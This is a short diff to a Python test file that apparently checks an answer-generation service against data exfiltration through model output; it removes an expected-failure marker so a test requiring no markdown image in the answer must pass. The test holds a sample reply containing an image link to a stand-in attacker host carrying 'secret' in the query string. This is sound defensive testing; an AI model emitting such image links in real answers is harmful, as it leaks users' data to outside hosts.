@@ -103,12 +103,6 @@ def test_exfiltration_through_the_whole_pipeline(hostile: Settings) -> None:
     assert targets and all(t.startswith("#bron-") for t in targets)  # only in-page anchors
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="defence in depth: the citation check keeps a markdown "
-    "image glued to a supported sentence, so Answer.text (audit log, CLI, any "
-    "future caller) still carries it; only the page/export sanitizer removes it",
-)
 def test_service_answer_itself_carries_no_image(hostile: Settings) -> None:
     reply = f"{GROUNDED} ![x](http://evil.example/?q=secret)"
     answer = _answer(hostile, reply, "Hoeveel procent van de werknemers gebruikt AI?")
